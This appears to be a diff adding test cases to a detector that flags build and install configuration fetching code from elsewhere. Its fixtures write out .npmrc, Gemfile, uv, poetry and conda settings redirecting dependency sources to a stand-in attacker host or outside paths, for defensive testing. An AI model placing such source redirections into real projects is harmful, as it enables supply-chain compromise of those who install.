@@ -178,6 +178,43 @@ describe('configuration that runs code from elsewhere is not allowed', () => {
       'terraform init',
       { 'main.tf': 'module "m" {\n  source = "../away"\n}\n' },
     ],
+    [
+      'rust-toolchain path outside',
+      'cargo build',
+      { ...CARGO, 'rust-toolchain.toml': '[toolchain]\npath = "AWAY/tc"\n' },
+    ],
+    ['.npmrc registry nobody stated', 'npm install', { '.npmrc': 'registry=https://evil.example/\n' }],
+    ['.npmrc scoped registry on yarn', 'yarn', { '.npmrc': '@acme:registry=https://evil.example/\n' }],
+    ['Gemfile source', 'bundle install', { Gemfile: "source 'https://evil.example'\ngem 'rails'\n" }],
+    [
+      'Gemfile git gem',
+      'bundle',
+      { Gemfile: "source 'https://rubygems.org'\ngem 'x', git: 'https://evil.example/x.git'\n" },
+    ],
+    ['Gemfile path outside', 'bundle install', { Gemfile: "gem 'x', path: 'AWAY'\n" }],
+    [
+      'uv index nobody stated',
+      'uv sync',
+      {
+        'pyproject.toml':
+          '[project]\nname = "x"\n[[tool.uv.index]]\nurl = "https://evil.example/simple"\ndefault = true\n',
+      },
+    ],
+    [
+      'uv source by git',
+      'uv lock',
+      { 'pyproject.toml': '[tool.uv.sources]\nx = { git = "https://evil.example/x.git" }\n' },
+    ],
+    [
+      'poetry source nobody stated',
+      'poetry install',
+      { 'pyproject.toml': '[[tool.poetry.source]]\nname = "m"\nurl = "https://evil.example/simple"\n' },
+    ],
+    [
+      'conda environment channel by URL',
+      'conda env create -f environment.yml',
+      { 'environment.yml': 'channels:\n  - https://evil.example/ch\ndependencies:\n  - numpy\n' },
+    ],
   ])('%s', (_n, command, files) => {
     expect(flagged(command, files)).toBe(true);
   });
@@ -229,6 +266,26 @@ describe('ordinary configuration stays quiet', () => {
         'main.tf':
           'terraform {\n  required_providers {\n    aws = { source = "hashicorp/aws" }\n  }\n}\nmodule "vpc" {\n  source = "terraform-aws-modules/vpc/aws"\n}\nmodule "net" {\n  source = "./modules/net"\n}\n',
       },
+    ],
+    [
+      '.npmrc with the public registry',
+      'npm ci',
+      { '.npmrc': 'registry=https://registry.npmjs.org/\nsave-exact=true\n' },
+    ],
+    [
+      'Gemfile from rubygems',
+      'bundle install',
+      { Gemfile: "source 'https://rubygems.org'\ngem 'rails', '~> 7.1'\n" },
+    ],
+    [
+      'pyproject with a workspace path source',
+      'uv sync',
+      { 'pyproject.toml': '[project]\nname = "x"\n[tool.uv.sources]\nlib = { path = "libs/lib" }\n' },
+    ],
+    [
+      'conda environment by channel names',
+      'conda env create -f environment.yml',
+      { 'environment.yml': 'channels:\n  - conda-forge\ndependencies:\n  - numpy\n' },
     ],
   ])('%s', (_n, command, files) => {
     expect(judge(command, files)).toEqual({ categories: [], uncertain: [] });
